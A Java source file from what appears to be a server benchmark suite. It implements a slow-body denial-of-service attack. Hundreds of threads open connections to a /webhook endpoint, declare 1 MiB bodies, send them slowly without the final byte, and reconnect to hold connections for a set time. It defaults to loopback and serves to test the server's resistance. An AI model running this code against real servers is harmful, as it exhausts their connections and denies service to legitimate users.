package io.linegate.bench;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Weakness 1 of issue 9 as a load: {@code --connections} sockets to {@code /webhook}, each declaring a
 * {@code --body}-byte body (1 MiB) and sending all of it but the last byte slowly ({@code --chunk}
 * bytes every {@code --pace-ms}), never signing anything. A connection the server answers or closes
 * (503 at once, 408 after the request timeout) is opened again after {@code --retry-ms}, so that the
 * attack keeps its connections for {@code --seconds}. Prints the statuses it got and how many
 * connections it held open on average. Loopback only; bounded by time.
 */
final class SlowBodyAttack {
    private SlowBodyAttack() {
    }

    static void run(Args a) throws Exception {
        String host = a.str("host", "127.0.0.1");
        int port = a.integer("port", 18080);
        int connections = a.integer("connections", 600);
        int body = a.integer("body", 1024 * 1024);
        int chunk = a.integer("chunk", 64 * 1024);
        long paceMs = a.lng("pace-ms", 500);
        long retryMs = a.lng("retry-ms", 200);
        long seconds = a.lng("seconds", 60);
        long end = System.nanoTime() + seconds * 1_000_000_000L;

        Map<String, AtomicInteger> statuses = new ConcurrentHashMap<>();
        AtomicInteger open = new AtomicInteger();
        AtomicLong openSamples = new AtomicLong();
        AtomicLong samples = new AtomicLong();
        byte[] data = new byte[chunk];
        java.util.Arrays.fill(data, (byte) ' ');
        CountDownLatch done = new CountDownLatch(connections);
        for (int i = 0; i < connections; i++) {
            Thread t = new Thread(() -> {
                try {
                    while (System.nanoTime() < end) {
                        String status = attackOnce(host, port, body, data, paceMs, end, open);
                        statuses.computeIfAbsent(status, k -> new AtomicInteger()).incrementAndGet();
                        sleep(retryMs);
                    }
                } finally {
                    done.countDown();
                }
            }, "attack-" + i);
            t.setDaemon(true);
            t.start();
        }
        while (System.nanoTime() < end) {
            sleep(1000);
            openSamples.addAndGet(open.get());
            samples.incrementAndGet();
        }
        done.await();
        System.out.println("attack_connections=" + connections);
        System.out.println("attack_mean_open=" + (samples.get() == 0 ? 0 : openSamples.get() / samples.get()));
        statuses.forEach((k, v) -> System.out.println("attack_status_" + k + "=" + v.get()));
    }

    /** One connection: headers, then the body but its last byte, slowly; returns what the server answered. */
    private static String attackOnce(String host, int port, int body, byte[] chunk, long paceMs, long end,
                                     AtomicInteger open) {
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress(host, port), 5000);
            open.incrementAndGet();
            try {
                s.setSoTimeout(1);
                OutputStream out = s.getOutputStream();
                InputStream in = s.getInputStream();
                out.write(("POST /webhook HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\nContent-Length: "
                        + body + "\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
                out.flush();
                int left = body - 1;
                while (System.nanoTime() < end) {
                    String answer = answer(in);
                    if (answer != null) {
                        return answer;
                    }
                    if (left > 0) {
                        int n = Math.min(left, chunk.length);
                        out.write(chunk, 0, n);
                        out.flush();
                        left -= n;
                    }
                    sleep(paceMs);
                }
                return "held_to_the_end";
            } finally {
                open.decrementAndGet();
            }
        } catch (IOException e) {
            return "closed";
        }
    }

    /** The status the server answered, "closed" if it closed without one, or null if it has said nothing yet. */
    private static String answer(InputStream in) throws IOException {
        byte[] head = new byte[12];
        try {
            int n = in.read(head);
            if (n < 0) {
                return "closed";
            }
            int more = in.readNBytes(head, n, Math.max(0, 12 - n));
            String line = new String(head, 0, n + more, StandardCharsets.ISO_8859_1);
            return line.startsWith("HTTP/1.1 ") && line.length() >= 12 ? line.substring(9, 12) : "garbled";
        } catch (java.net.SocketTimeoutException e) {
            return null;
        }
    }

    private static void sleep(long ms) {
        try {
            Thread.sleep(ms);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
